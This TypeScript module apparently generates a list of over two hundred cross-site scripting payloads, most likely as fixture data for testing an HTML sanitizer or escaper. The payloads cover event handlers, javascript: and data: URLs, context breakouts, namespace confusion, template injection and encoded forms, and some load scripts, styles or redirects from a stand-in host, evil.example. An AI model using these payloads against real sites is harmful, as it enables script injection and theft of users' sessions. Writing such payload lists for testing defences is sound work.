/**
 * Texts that would run or style something wherever they were taken for more than text: elements, handlers, addresses,
 * ways out of attributes, comments, templates, other name spaces, in several spellings. More than two hundred.
 */
export const scriptPayloads: readonly string[] = [...new Set(made())];

function* made(): Generator<string> {
  const call = 'alert(1)';
  const elements = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'details open',
    'math',
  ];
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerover', 'onanimationstart'];
  for (const element of elements)
    for (const event of events) {
      yield `<${element} ${event}=${call}>`;
      yield `"><${element.toUpperCase()} ${event.toUpperCase()}='${call}'>`;
    }
  const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java&#9;script:', 'java&Tab;script:', 'vbscript:'];
  for (const scheme of schemes)
    for (const [before, after] of [
      ['<a href="', '">x</a>'],
      ['[x](', ')'],
      ['<iframe src="', '"></iframe>'],
      ['<form action="', '"><button>x</button></form>'],
      ['<svg><a xlink:href="', '"><text>x</text></a></svg>'],
      ['', ''],
    ])
      yield `${before}${scheme}${call}${after}`;
  const data = [
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ];
  for (const address of data)
    for (const [before, after] of [
      ['<object data="', '"></object>'],
      ['<embed src="', '">'],
      ['<a href="', '">x</a>'],
      ['![x](', ')'],
    ])
      yield `${before}${address}${after}`;
  const scripts = [
    `<script>${call}</script>`,
    `<script >${call}</script >`,
    `<script/x>${call}</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    '<script src=//evil.example/x.js></script>',
    '<svg><script href="data:,alert(1)"/></svg>',
    `<svg><script>${call}</script></svg>`,
    `<script type=module>import("//evil.example")</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  ];
  for (const script of scripts)
    for (const out of ['', '"', "'", '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</script>'])
      yield `${out}${script}`;
  yield* [
    '<style>@import "//evil.example/x.css"</style>',
    '<style>*{background:url(//evil.example)}</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
    '<template><img src=x onerror=alert(1)></template>',
    '<slot name=x onslotchange=alert(1)></slot>',
    '<img src=`x` onerror=alert`1`>',
    '<img/src=x/onerror=alert(1)//',
    '<img src=x onerror=alert(1)',
    '<<img src=x onerror=alert(1)>>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><x onload=alert(1)>',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '%3Cimg src=x onerror=alert(1)%3E',
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    '＜img src=x onerror=alert(1)＞',
    '{{constructor.constructor("alert(1)")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay as it stands
    '${alert(1)}',
    '<%= alert(1) %>',
    '#{alert(1)}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay as it stands
    '[[${alert(1)}]]',
    "';alert(1);//",
    '";alert(1);//',
    '`;alert(1);//',
    '</script><img src=x onerror=alert(1)>',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    'x onmouseover=alert(1) ',
    '<a id=location href=x>x</a>',
    '<img name=body src=x>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<isindex action=javascript:alert(1) type=image>',
    '<keygen autofocus onfocus=alert(1)>',
    '<button popovertarget=x onbeforetoggle=alert(1)>x</button>',
    '<dialog open oncancel=alert(1)>x</dialog>',
  ];
}
